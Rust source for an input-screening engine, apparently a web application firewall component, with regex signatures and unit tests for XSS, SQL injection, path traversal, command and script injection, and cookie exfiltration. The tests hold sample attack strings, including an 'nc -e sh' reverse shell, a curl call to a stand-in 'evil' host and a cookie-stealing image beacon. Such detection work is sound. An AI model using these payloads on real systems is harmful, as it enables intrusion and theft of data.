use crate::config::ThreatScores;
use crate::error::GuardError;
use regex::RegexSet;
use serde::Serialize;
use std::fmt;

/// Every check the engine runs. Signature checks come first, in table order,
/// followed by the statistical anomaly checks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum ThreatType {
    Xss,
    SqlInjection,
    PathTraversal,
    CommandInjection,
    ScriptInjection,
    DataExfiltration,
    UnicodeEvasion,
    EncodingEvasion,
    ExcessiveLength,
    HighEntropy,
    SpecialChars,
    BinaryPayload,
}

impl ThreatType {
    pub fn as_str(&self) -> &'static str {
        match self {
            ThreatType::Xss => "XSS",
            ThreatType::SqlInjection => "SQL_INJECTION",
            ThreatType::PathTraversal => "PATH_TRAVERSAL",
            ThreatType::CommandInjection => "COMMAND_INJECTION",
            ThreatType::ScriptInjection => "SCRIPT_INJECTION",
            ThreatType::DataExfiltration => "DATA_EXFILTRATION",
            ThreatType::UnicodeEvasion => "UNICODE_EVASION",
            ThreatType::EncodingEvasion => "ENCODING_EVASION",
            ThreatType::ExcessiveLength => "EXCESSIVE_LENGTH",
            ThreatType::HighEntropy => "HIGH_ENTROPY",
            ThreatType::SpecialChars => "SPECIAL_CHARS",
            ThreatType::BinaryPayload => "BINARY_PAYLOAD",
        }
    }

    /// Signature checks match attack syntax. The rest are statistical
    /// anomalies that ordinary traffic can also trip.
    pub fn is_signature(&self) -> bool {
        !matches!(
            self,
            ThreatType::ExcessiveLength
                | ThreatType::HighEntropy
                | ThreatType::SpecialChars
                | ThreatType::BinaryPayload
        )
    }

    /// Configured score for this check.
    pub fn score(&self, scores: &ThreatScores) -> u32 {
        match self {
            ThreatType::Xss => scores.xss,
            ThreatType::SqlInjection => scores.sql_injection,
            ThreatType::PathTraversal => scores.path_traversal,
            ThreatType::CommandInjection => scores.command_injection,
            ThreatType::ScriptInjection => scores.script_injection,
            ThreatType::DataExfiltration => scores.data_exfiltration,
            ThreatType::UnicodeEvasion => scores.unicode_evasion,
            ThreatType::EncodingEvasion => scores.encoding_evasion,
            ThreatType::ExcessiveLength => scores.excessive_length,
            ThreatType::HighEntropy => scores.high_entropy,
            ThreatType::SpecialChars => scores.special_chars,
            ThreatType::BinaryPayload => scores.binary_payload,
        }
    }
}

impl fmt::Display for ThreatType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// (type, description, patterns). Patterns are case-insensitive and a type
/// counts once no matter how many of its patterns match.
const SIGNATURES: &[(ThreatType, &str, &[&str])] = &[
    (
        ThreatType::Xss,
        "cross-site scripting markup",
        &[
            r"<\s*/?\s*script\b",
            r"javascript\s*:",
            r"vbscript\s*:",
            r"\bon(load|error|click|dblclick|focus|blur|submit|change|input|toggle|begin|mouse[a-z]+|key[a-z]+|pointer[a-z]+|animation[a-z]+)\s*=",
            r"<\s*(iframe|object|embed|svg|applet|meta|base)\b",
            r"<\s*img\b[^>]*\bsrc\s*=",
            r"expression\s*\(",
        ],
    ),
    (
        ThreatType::SqlInjection,
        "SQL injection syntax",
        &[
            r"'\s*(or|and)\s+('|\d|true\b)",
            r"\bunion\b(\s+all)?\s+select\b",
            r";\s*(drop|delete|insert|update|alter|create|truncate|exec|shutdown)\b",
            r"\bdrop\s+(table|database)\b",
            r"'\s*;",
            r"'\s*--",
            r"--\s*$",
            r"/\*[^,;]*?\*/",
            r"\b(sleep|benchmark|pg_sleep)\s*\(",
            r"\bwaitfor\s+delay\b",
            r"\bxp_cmdshell\b",
            r"\bselect\b.+\bfrom\b.+\bwhere\b",
        ],
    ),
    (
        ThreatType::PathTraversal,
        "path traversal sequence",
        &[
            r"(\.\.|%2e%2e|%252e%252e|\.%2e|%2e\.)(/|\\|%2f|%5c|%252f|%255c)",
            r"(/|\\|%2f|%5c)(\.\.|%2e%2e)$",
            r"/etc/(passwd|shadow|hosts)\b",
            r"[a-z]:\\windows\\",
            r"\\windows\\system32\b",
        ],
    ),
    (
        ThreatType::CommandInjection,
        "shell command injection",
        &[
            r"(;|&&|\|\|?|\n)\s*(ls|cat|rm|wget|curl|nc|ncat|netcat|bash|sh|zsh|python[0-9.]*|perl|ruby|php|chmod|chown|whoami|uname|ping|nslookup|kill)\b",
            r"\$\([^)]*\)",
            r"`[^`]+`",
            r"/bin/(ba|z|da)?sh\b",
            r"\bcmd(\.exe)?\s+/c\b",
            r"\bpowershell(\.exe)?\b",
        ],
    ),
    (
        ThreatType::ScriptInjection,
        "server-side script or eval",
        &[
            r"\beval\s*\(",
            r"\b(exec|system|passthru|shell_exec|popen|proc_open)\s*\(",
            r"<\?php",
            r"<%[=@]?",
            r"\$\{[^}]*\}",
            r"\{\{[^}]*\}\}",
            r"__import__\s*\(",
            r"\bruntime\.getruntime\s*\(",
            r"\bnew\s+function\s*\(",
        ],
    ),
    (
        ThreatType::DataExfiltration,
        "data exfiltration indicator",
        &[
            r"document\.cookie",
            r"\bfetch\s*\(",
            r"\bxmlhttprequest\b",
            r"navigator\.sendbeacon",
            r"\bnew\s+image\s*\(",
            r"(https?:)?//(\d{1,3}\.){3}\d{1,3}\b",
            r"window\.location\s*=",
            r"localstorage\.getitem",
        ],
    ),
    (
        ThreatType::UnicodeEvasion,
        "unicode escape evasion",
        &[
            r"\\u[0-9a-f]{4}",
            r"\\u\{[0-9a-f]{1,6}\}",
            r"\\x[0-9a-f]{2}",
            r"%u[0-9a-f]{4}",
            r"&#x?[0-9a-f]+;?",
            r"[\x{200B}-\x{200F}\x{202A}-\x{202E}\x{2060}\x{FEFF}]",
            r"[\x{FF01}-\x{FF5E}]",
        ],
    ),
    (
        ThreatType::EncodingEvasion,
        "percent-encoding evasion",
        &[
            r"%25[0-9a-f]{2}",
            r"%c0%a[ef]|%c1%9c|%e0%80%af",
            r"%00",
            r"(%[0-9a-f]{2}){3,}",
        ],
    ),
];

/// One compiled signature check.
pub(crate) struct SignatureRule {
    pub threat_type: ThreatType,
    pub description: &'static str,
    pub score: u32,
    patterns: RegexSet,
}

impl SignatureRule {
    pub fn matches(&self, input: &str) -> bool {
        self.patterns.is_match(input)
    }
}

/// Compile the signature table once. Checks scored zero are left out.
pub(crate) fn compile(scores: &ThreatScores) -> Result<Vec<SignatureRule>, GuardError> {
    let mut rules = Vec::with_capacity(SIGNATURES.len());
    for (threat_type, description, patterns) in SIGNATURES {
        let score = threat_type.score(scores);
        if score == 0 {
            continue;
        }
        let patterns = RegexSet::new(patterns.iter().map(|p| format!("(?i){}", p)))?;
        rules.push(SignatureRule {
            threat_type: *threat_type,
            description: *description,
            score,
            patterns,
        });
    }
    Ok(rules)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(t: ThreatType) -> SignatureRule {
        compile(&ThreatScores::default())
            .unwrap()
            .into_iter()
            .find(|r| r.threat_type == t)
            .unwrap()
    }

    #[test]
    fn test_all_patterns_compile() {
        let rules = compile(&ThreatScores::default()).unwrap();
        assert_eq!(rules.len(), SIGNATURES.len());
        // Table order is preserved.
        assert_eq!(rules[0].threat_type, ThreatType::Xss);
        assert_eq!(rules[1].threat_type, ThreatType::SqlInjection);
    }

    #[test]
    fn test_zero_score_disables_check() {
        let scores = ThreatScores {
            xss: 0,
            ..ThreatScores::default()
        };
        let rules = compile(&scores).unwrap();
        assert!(rules.iter().all(|r| r.threat_type != ThreatType::Xss));
    }

    #[test]
    fn test_xss() {
        let r = rule(ThreatType::Xss);
        assert!(r.matches("<script>alert(1)</script>"));
        assert!(r.matches("<SCRIPT src=x>"));
        assert!(r.matches("javascript:alert(1)"));
        assert!(r.matches("<img src=x onerror=alert(1)>"));
        assert!(r.matches("<svg/onload=alert(1)>"));
        assert!(!r.matches("the scripting guide"));
        assert!(!r.matches("one = two"));
    }

    #[test]
    fn test_sql_injection() {
        let r = rule(ThreatType::SqlInjection);
        assert!(r.matches("'; DROP TABLE users; --"));
        assert!(r.matches("' OR '1'='1"));
        assert!(r.matches("1 UNION SELECT password FROM users"));
        assert!(r.matches("admin'--"));
        assert!(r.matches("1; waitfor delay '0:0:5'"));
        assert!(!r.matches("O'Brien"));
        assert!(!r.matches("select a size"));
        assert!(r.matches("1 UNION/**/SELECT pass"));
        assert!(r.matches("id=1/*x*/OR/*y*/1"));
        // Media ranges look like comment delimiters.
        assert!(!r.matches("image/webp,image/*,*/*;q=0.8"));
        assert!(!r.matches("text/html,application/xhtml+xml,*/*;q=0.8"));
    }

    #[test]
    fn test_path_traversal() {
        let r = rule(ThreatType::PathTraversal);
        assert!(r.matches("../../etc/passwd"));
        assert!(r.matches("..\\..\\boot.ini"));
        assert!(r.matches("%2e%2e%2fsecret"));
        assert!(r.matches("%252e%252e%252f"));
        assert!(r.matches("/var/www/.."));
        assert!(!r.matches("version 1.2..3"));
        assert!(!r.matches("/api/products/42"));
    }

    #[test]
    fn test_command_injection() {
        let r = rule(ThreatType::CommandInjection);
        assert!(r.matches("foo; cat /etc/passwd"));
        assert!(r.matches("x && curl http://evil"));
        assert!(r.matches("| nc -e sh 1.2.3.4"));
        assert!(r.matches("$(whoami)"));
        assert!(r.matches("`id`"));
        assert!(!r.matches("'; DROP TABLE users; --"));
        assert!(!r.matches("cats and dogs"));
        assert!(!r.matches("rock & roll"));
    }

    #[test]
    fn test_script_injection() {
        let r = rule(ThreatType::ScriptInjection);
        assert!(r.matches("eval(atob('x'))"));
        assert!(r.matches("<?php system('id'); ?>"));
        assert!(r.matches("${jndi:ldap://x/a}"));
        assert!(r.matches("{{7*7}}"));
        assert!(!r.matches("evaluation report"));
    }

    #[test]
    fn test_data_exfiltration() {
        let r = rule(ThreatType::DataExfiltration);
        assert!(r.matches("new Image().src='//x?c='+document.cookie"));
        assert!(r.matches("fetch('https://evil.example')"));
        assert!(r.matches("http://203.0.113.5/collect"));
        assert!(!r.matches("203.0.113.5"));
        assert!(!r.matches("prefetch is fine"));
    }

    #[test]
    fn test_unicode_evasion() {
        let r = rule(ThreatType::UnicodeEvasion);
        assert!(r.matches(r"\u003cscript\u003e"));
        assert!(r.matches("%u003c"));
        assert!(r.matches("&#x3c;"));
        assert!(r.matches("sel\u{200B}ect"));
        assert!(!r.matches("plain text"));
    }

    #[test]
    fn test_encoding_evasion() {
        let r = rule(ThreatType::EncodingEvasion);
        assert!(r.matches("%253cscript"));
        assert!(r.matches("%c0%ae%c0%ae/"));
        assert!(r.matches("file%00.jpg"));
        assert!(!r.matches("100% sure"));
    }
}
